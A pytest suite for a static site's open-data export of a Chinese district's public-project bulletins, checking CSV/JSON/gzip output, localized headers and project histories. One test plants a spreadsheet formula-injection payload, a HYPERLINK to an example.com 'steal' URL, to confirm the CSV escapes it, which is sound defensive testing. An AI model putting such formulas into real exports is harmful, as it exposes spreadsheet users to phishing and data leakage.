"""Open data beside the pages: data/rounds/<round>.csv and .json, data/units/<unit>.json, data/index.json
and data/projects.json.gz (every history, gzip-compressed).

Expected rows and histories are computed from the content files (YAML read directly), never copied from the
output under test.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import posixpath
import re
import shutil
import subprocess
import zlib
from pathlib import Path

import pytest
import yaml
from bs4 import BeautifulSoup

from conftest import MINIMAL_SITE, ROOT, build_site, run_cli, write_site

BOM = b"\xef\xbb\xbf"
CLOSED = {"completed", "cancelled"}
FORMULA_STARTS = ("=", "+", "-", "@")


# --- what the content says ------------------------------------------------------------------------------

def load(site: Path):
    config = yaml.safe_load((site / "site.yaml").read_text(encoding="utf-8"))
    units = yaml.safe_load((site / "content/units.yaml").read_text(encoding="utf-8"))["units"]
    rounds = [str(r["id"]) for r in config["rounds"]]
    files = {}
    for round_id in rounds:
        for path in sorted((site / "content" / round_id).glob("*.yaml")):
            files[(round_id, path.stem)] = yaml.safe_load(path.read_text(encoding="utf-8"))["projects"]
    return config, units, rounds, files


def expected_histories(site: Path) -> dict[tuple[str, str], list[tuple[str, bool, dict]]]:
    """(unit, project) -> [(round, reported, entry as last reported)] from its first round on; a project
    missing from a later list stays (not reported) unless it was last completed or cancelled."""
    _, units, rounds, files = load(site)
    histories: dict[tuple[str, str], list] = {}
    for unit in units:
        last: dict[str, dict] = {}
        for round_id in rounds:
            present = {p["id"]: p for p in files.get((round_id, unit["id"]), [])}
            for project_id, entry in present.items():
                histories.setdefault((unit["id"], project_id), []).append((round_id, True, entry))
                last[project_id] = entry
            for project_id, entry in last.items():
                if project_id not in present and entry["status"] not in CLOSED:
                    histories[(unit["id"], project_id)].append((round_id, False, entry))
    return histories


def expected_rows(site: Path, round_id: str) -> set[tuple[str, str, bool]]:
    return {(unit_id, project_id, reported)
            for (unit_id, project_id), steps in expected_histories(site).items()
            for step_round, reported, _ in steps if step_round == round_id}


# --- reading the output -----------------------------------------------------------------------------------

def read_csv(path: Path) -> tuple[bytes, list[str], list[dict[str, str]]]:
    raw = path.read_bytes()
    assert raw.startswith(BOM), f"{path.name} does not start with the UTF-8 BOM"
    reader = csv.reader(io.StringIO(raw[len(BOM):].decode("utf-8"), newline=""))
    labels_row, *rows = list(reader)
    assert all(len(row) == len(labels_row) for row in rows)
    # The header names the columns in the site's language; the round's JSON says which field each is.
    document = read_json(path.with_suffix(".json"))
    assert labels_row == [document["labels"][name] for name in document["fields"]]
    header = document["fields"]
    return raw, header, [dict(zip(header, row)) for row in rows]


def read_json(path: Path) -> dict:
    return json.loads(path.read_text(encoding="utf-8"))


ALL_PROJECTS = "data/projects.json.gz"


def read_all_projects(out: Path) -> dict:
    """Every project's history, as a user reads it: the .gz decompressed by Python's gzip."""
    return json.loads(gzip.decompress((out / ALL_PROJECTS).read_bytes()).decode("utf-8"))


def csv_text(value) -> str:
    """A JSON value as the CSV writes it."""
    if value is None:
        return ""
    if value is True or value is False:
        return "true" if value else "false"
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


@pytest.fixture(scope="module")
def minimal(tmp_path_factory) -> tuple[Path, Path]:
    site = write_site(tmp_path_factory.mktemp("opendata") / "site", MINIMAL_SITE)
    out = site.parent / "public"
    result = run_cli("build", "--site", str(site), "--out", str(out), "--no-search")
    assert result.returncode == 0, result.stderr
    return site, out


# --- CSV ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("round_id", ["r1", "r2"])
def test_csv_is_excel_friendly_and_matches_the_json(minimal, round_id):
    site, out = minimal
    raw, header, rows = read_csv(out / f"data/rounds/{round_id}.csv")
    assert raw.count(b"\n") == raw.count(b"\r\n") > 0, "every line must end with CRLF"
    assert raw.endswith(b"\r\n")
    document = read_json(out / f"data/rounds/{round_id}.json")
    assert header == document["fields"]
    assert len(rows) == len(document["projects"])
    for row, item in zip(rows, document["projects"]):
        assert list(item) == document["fields"]
        assert row == {key: csv_text(value) for key, value in item.items()}


def test_a_chinese_sites_csv_names_its_columns_in_chinese(minimal):
    # Staff and journalists open the CSV in Excel: a zh-CN site's header row is Chinese, while
    # the JSON keeps the stable English keys and says which header is which field.
    site, out = minimal
    raw = (out / "data/rounds/r2.csv").read_bytes()
    header = next(csv.reader(io.StringIO(raw[len(BOM):].decode("utf-8"), newline="")))
    assert header[:3] == ["轮次编号", "轮次", "公布日期"]
    assert {"项目名称", "状态", "工作进展", "领办人", "完成时限"} <= set(header)
    assert not {"title", "status", "progress"} & set(header)
    assert len(set(header)) == len(header), "two columns with one header"
    document = read_json(out / "data/rounds/r2.json")
    assert document["fields"][:3] == ["round_id", "round_title", "round_date"]
    assert document["labels"]["title"] == "项目名称"
    assert all(key.isascii() for row in document["projects"] for key in row)


def test_an_english_sites_csv_keeps_the_field_names_as_headers(tmp_path):
    from conftest import english_site
    site = english_site(tmp_path / "site")
    out = tmp_path / "public"
    built = run_cli("build", "--site", str(site), "--out", str(out), "--no-search")
    assert built.returncode == 0, built.stderr
    raw = (out / "data/rounds/r2.csv").read_bytes()
    header = next(csv.reader(io.StringIO(raw[len(BOM):].decode("utf-8"), newline="")))
    assert header == read_json(out / "data/rounds/r2.json")["fields"]


@pytest.mark.parametrize("round_id", ["r1", "r2"])
def test_rows_are_every_project_on_a_units_list(minimal, round_id):
    site, out = minimal
    _, _, rows = read_csv(out / f"data/rounds/{round_id}.csv")
    found = [(row["unit_id"], row["project_id"], row["reported"] == "true") for row in rows]
    assert len(found) == len(set(found)), "a project is listed twice"
    assert set(found) == expected_rows(site, round_id)
    assert {row["reported"] for row in rows} <= {"true", "false"}
    for row in rows:
        assert row["round_id"] == round_id
        assert (row["number"] == "") == (row["reported"] == "false")


def test_the_dropped_project_is_not_reported_with_its_last_report(minimal):
    site, out = minimal
    _, _, rows = read_csv(out / "data/rounds/r2.csv")
    by_id = {row["project_id"]: row for row in rows}
    assert set(by_id) == {"p1", "p4", "p2", "t1"}  # p3 was completed in r1: it is not carried on
    p2 = by_id["p2"]
    assert p2["reported"] == "false"
    assert p2["number"] == ""
    assert (p2["status"], p2["status_label"], p2["progress"]) == ("not_started", "未启动", "尚未开始")
    assert p2["last_reported_round_id"] == "r1"
    assert p2["history_url"] == "projects/u1/p2.html"
    assert by_id["t1"]["reported"] == "false" and by_id["t1"]["status"] == "in_progress"
    # reported entries first, in bulletin order
    assert [(row["project_id"], row["number"]) for row in rows if row["unit_id"] == "u1"] == \
        [("p1", "1"), ("p4", "2"), ("p2", "")]


# --- JSON -----------------------------------------------------------------------------------------------------

def test_round_json_fields_and_values(minimal):
    site, out = minimal
    document = read_json(out / "data/rounds/r2.json")
    assert document["round"] == {"id": "r2", "title": "第二轮", "date": "2021-08-24"}
    assert document["site"]["title"] == "测试区民生实事公示"
    assert document["site"]["publisher"] == "测试区办公室"
    assert document["fields"][:3] == ["round_id", "round_title", "round_date"]
    by_id = {item["project_id"]: item for item in document["projects"]}
    p1, p4, p2 = by_id["p1"], by_id["p4"], by_id["p2"]
    assert (p1["funding_amount"], p1["funding_unit"]) == (5000, "元")
    assert type(p1["funding_amount"]) is int
    assert p1["reported"] is True and p1["number"] == 1
    assert (p1["status"], p1["status_label"]) == ("completed", "已完成")
    assert (p4["target_name"], p4["target_planned"], p4["target_done"], p4["target_unit"]) == ("车位", 10, 28, "个")
    assert p4["target_rate"] == 280
    assert p2["reported"] is False and p2["number"] is None and p2["funding_amount"] is None
    assert p1["history_url"] == "projects/u1/p1.html" and p1["unit_name"] == "甲单位" and p1["unit_group"] == "区直部门"
    _, _, rows = read_csv(out / "data/rounds/r2.csv")
    csv_p4 = next(row for row in rows if row["project_id"] == "p4")
    assert csv_p4["target_rate"] in ("280", "280.0")
    assert next(row for row in rows if row["project_id"] == "p1")["funding_amount"] == "5000"


def test_every_field_is_documented_in_the_readme(minimal):
    site, out = minimal
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## Open data"):]
    section = section[: section.find("\n## ", 1)] if "\n## " in section[1:] else section
    fields = read_json(out / "data/rounds/r1.json")["fields"]
    history = read_all_projects(out)["projects"][0]
    names = set(fields) | set(history) | {key for step in history["rounds"] for key in step}
    undocumented = sorted(name for name in names if f"`{name}`" not in section)
    assert undocumented == [], f"fields missing from the README's Open data section: {undocumented}"


def test_projects_json_has_every_project_with_its_whole_history(minimal):
    site, out = minimal
    document = read_all_projects(out)
    assert [r["id"] for r in document["rounds"]] == ["r1", "r2"]
    expected = expected_histories(site)
    found = {(p["unit_id"], p["project_id"]): p for p in document["projects"]}
    assert len(found) == len(document["projects"])
    assert set(found) == set(expected)
    for key, project in found.items():
        steps = expected[key]
        assert [(s["round_id"], s["reported"]) for s in project["rounds"]] == [(r, rep) for r, rep, _ in steps], key
        for step, (_, reported, entry) in zip(project["rounds"], steps):
            if reported:
                assert (step["title"], step["status"], step["progress"]) == \
                    (entry["title"], entry["status"], entry["progress"].strip())
        last = steps[-1][2]
        assert project["title"] == last["title"] and project["latest_status"] == last["status"]
        assert project["first_round_id"] == steps[0][0]
        assert project["history_url"] == f"projects/{key[0]}/{key[1]}.html"
        assert (out / project["history_url"]).is_file()
    p1 = found[("u1", "p1")]
    assert p1["rounds"][1]["funding_amount"] == 5000
    assert "status" in p1["rounds"][1]["changes"] and "funding" in p1["rounds"][1]["changes"]
    assert p1["rounds"][1]["progress_rewritten"] is True
    assert found[("u1", "p2")]["latest_reported_round_id"] == "r1"
    assert found[("u1", "p4")]["rounds"][0]["target_rate"] == 280


def test_the_sample_open_data_matches_its_content(sample_build):
    for round_id in [str(r["id"]) for r in load(ROOT)[0]["rounds"]]:
        _, header, rows = read_csv(sample_build / f"data/rounds/{round_id}.csv")
        document = read_json(sample_build / f"data/rounds/{round_id}.json")
        assert header == document["fields"]
        found = {(row["unit_id"], row["project_id"], row["reported"] == "true") for row in rows}
        assert len(found) == len(rows) == len(document["projects"])
        assert found == expected_rows(ROOT, round_id)
    projects = read_all_projects(sample_build)["projects"]
    assert {(p["unit_id"], p["project_id"]) for p in projects} == set(expected_histories(ROOT))


# --- spreadsheet formula injection --------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://example.com/steal?x=1","点此查看")'


def test_cells_that_look_like_formulas_are_kept_as_text(tmp_path):
    site = write_site(tmp_path / "site", MINIMAL_SITE)
    path = site / "content/r2/u1.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("title: 路灯修复", "title: '" + HYPERLINK + "'\n    lead: '+86 0476 1234'\n"
                        "    location: '@SUM(A1:A9)'")
    text = text.replace("progress: 新增", "progress: '-2+3'")
    path.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli("build", "--site", str(site), "--out", str(out), "--no-search")
    assert result.returncode == 0, result.stderr
    _, _, rows = read_csv(out / "data/rounds/r2.csv")
    p1 = next(row for row in rows if row["project_id"] == "p1")
    p4 = next(row for row in rows if row["project_id"] == "p4")
    assert p1["title"] == "'" + HYPERLINK
    assert p1["lead"] == "'+86 0476 1234"
    assert p1["location"] == "'@SUM(A1:A9)"
    assert p4["progress"] == "'-2+3"
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(FORMULA_STARTS), f"{key}: {value!r} would run as a formula"
    # the JSON keeps the text as written
    items = {i["project_id"]: i for i in read_json(out / "data/rounds/r2.json")["projects"]}
    assert items["p1"]["title"] == HYPERLINK and items["p4"]["progress"] == "-2+3"
    history = next(p for p in read_all_projects(out)["projects"] if p["project_id"] == "p1")
    assert history["title"] == HYPERLINK


# --- links from the pages -----------------------------------------------------------------------------------

def open_data_links(out: Path, page: str) -> list[str]:
    html = BeautifulSoup((out / page).read_text(encoding="utf-8"), "html.parser")
    links = [a["href"] for a in html.select("p.open-data a")]
    assert links, f"{page} has no open data links"
    return [posixpath.normpath(posixpath.join(posixpath.dirname(page), href)) for href in links]


@pytest.mark.parametrize("page, round_id", [("index.html", "r2"), ("rounds/r1/index.html", "r1"),
                                            ("rounds/r2/index.html", "r2")])
def test_pages_link_to_their_open_data(minimal, page, round_id):
    site, out = minimal
    targets = open_data_links(out, page)
    assert targets == [f"data/rounds/{round_id}.csv", f"data/rounds/{round_id}.json", ALL_PROJECTS]
    for target in targets:
        assert (out / target).is_file(), f"{page} links to {target}, which was not built"


def test_every_round_and_unit_has_its_files_and_nothing_else(minimal):
    site, out = minimal
    found = sorted(p.relative_to(out).as_posix() for p in (out / "data").rglob("*") if p.is_file())
    assert found == ["data/index.json", "data/projects.json.gz", "data/rounds/r1.csv", "data/rounds/r1.json",
                     "data/rounds/r2.csv", "data/rounds/r2.json", "data/units/town.json", "data/units/u1.json"]
    for path in found:
        assert not re.search(r"\s", path)


def test_each_units_history_is_its_share_of_the_whole(minimal):
    # A province's whole history is hundreds of MB: one unit's history is a file of its own,
    # the same projects, fields and values as the whole file has for that unit.
    site, out = minimal
    whole = read_all_projects(out)
    units = {unit["id"]: unit for unit in load(site)[1]}
    for unit_id, unit in units.items():
        own = read_json(out / f"data/units/{unit_id}.json")
        assert own["unit"] == {"id": unit_id, "name": unit["name"], "group": unit["group"]}
        assert own["site"] == whole["site"] and own["rounds"] == whole["rounds"]
        assert own["projects"] == [p for p in whole["projects"] if p["unit_id"] == unit_id]
        assert own["projects"], unit_id
        unit_page = f"units/{unit_id}.html"
        assert f"data/units/{unit_id}.json" in open_data_links(out, unit_page)


def test_the_index_names_every_open_data_file(minimal):
    site, out = minimal
    index = read_json(out / "data/index.json")
    config, units, rounds, _ = load(site)
    assert [r["id"] for r in index["rounds"]] == rounds
    assert [u["id"] for u in index["units"]] == [u["id"] for u in units]
    named = [index["all_projects"]] + [r[kind] for r in index["rounds"] for kind in ("json", "csv")] + [
        u["history"] for u in index["units"]]
    on_disk = sorted(p.relative_to(out).as_posix() for p in (out / "data").rglob("*") if p.is_file())
    assert sorted(named + ["data/index.json"]) == on_disk


# --- the whole history, compressed ----------------------------------------------------------------------------

def gzip_members(raw: bytes) -> list[bytes]:
    """The decompressed bytes of each gzip member of a file, in order."""
    members = []
    while raw:
        member = zlib.decompressobj(wbits=31)
        members.append(member.decompress(raw) + member.flush())
        assert member.eof, "a gzip member is cut short"
        raw = member.unused_data
    return members


def projects_text(document: bytes) -> bytes:
    """The lines of a history file's `projects` list, as written (one project per line)."""
    head, _, rest = document.partition(b',"projects":[\n')
    assert rest.endswith(b"\n]}\n")
    return rest[: -len(b"\n]}\n")]


@pytest.mark.parametrize("which", ["minimal", "sample"])
def test_the_whole_history_is_every_units_history_in_turn(which, request):
    out = request.getfixturevalue("minimal")[1] if which == "minimal" else request.getfixturevalue("sample_build")
    whole = gzip.decompress((out / ALL_PROJECTS).read_bytes())
    document = json.loads(whole.decode("utf-8"))
    index = read_json(out / "data/index.json")
    assert index["all_projects"] == ALL_PROJECTS
    units = [read_json(out / unit["history"]) for unit in index["units"]]
    assert len(units) > 1
    assert document["projects"] == [project for unit in units for project in unit["projects"]]
    assert all(unit["site"] == document["site"] and unit["rounds"] == document["rounds"] for unit in units)
    # Byte for byte the one-project-a-line JSON data/projects.json was: each unit's lines in turn.
    shares = [projects_text((out / unit["history"]).read_bytes()) for unit in index["units"]]
    assert projects_text(whole) == b",\n".join(share for share in shares if share)
    assert whole.count(b"\n") == len(document["projects"]) + 2


def test_the_whole_history_is_one_gzip_member_per_unit(minimal):
    site, out = minimal
    raw = (out / ALL_PROJECTS).read_bytes()
    members = gzip_members(raw)
    # head, u1, separator, town, tail: made by joining each unit's member, never compressing the whole
    assert len(members) == 5
    assert members[2] == b",\n" and members[4] == b"\n]}\n"
    assert json.loads(members[1].decode("utf-8").join(["[", "]"]))[0]["unit_id"] == "u1"
    assert json.loads(members[3].decode("utf-8").join(["[", "]"]))[0]["unit_id"] == "town"
    assert b"".join(members) == gzip.decompress(raw)
    gzip_tool = shutil.which("gzip")
    if gzip_tool:  # what a user's gunzip reads: the members as one stream
        assert subprocess.run([gzip_tool, "-t", str(out / ALL_PROJECTS)], capture_output=True).returncode == 0
        unzipped = subprocess.run([gzip_tool, "-dc", str(out / ALL_PROJECTS)], capture_output=True, check=True)
        assert unzipped.stdout == b"".join(members)


def test_the_pages_say_the_whole_history_is_compressed(minimal):
    site, out = minimal
    html = BeautifulSoup((out / "rounds/r1/index.html").read_text(encoding="utf-8"), "html.parser")
    link = next(a for a in html.select("p.open-data a") if a["href"].endswith(".json.gz"))
    assert "gzip" in link.get_text() and "download" in link.attrs


def test_a_one_unit_edit_rebuilds_the_whole_history_as_a_full_build_does(tmp_path):
    site = write_site(tmp_path / "site", MINIMAL_SITE)
    out = build_site(site, tmp_path / "out")
    town_member = gzip_members((out / ALL_PROJECTS).read_bytes())[3]
    path = site / "content/r2/u1.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("全部更换完毕", "全部更换完毕并验收"), encoding="utf-8")
    result = run_cli("build", "--site", str(site), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert "1 of 2 units rebuilt" in result.stdout + result.stderr
    fresh = build_site(site, tmp_path / "fresh")
    assert (out / ALL_PROJECTS).read_bytes() == (fresh / ALL_PROJECTS).read_bytes()
    members = gzip_members((out / ALL_PROJECTS).read_bytes())
    assert members[3] == town_member
    p1 = next(p for p in read_all_projects(out)["projects"] if p["project_id"] == "p1")
    assert p1["rounds"][1]["progress"] == "全部更换完毕并验收"
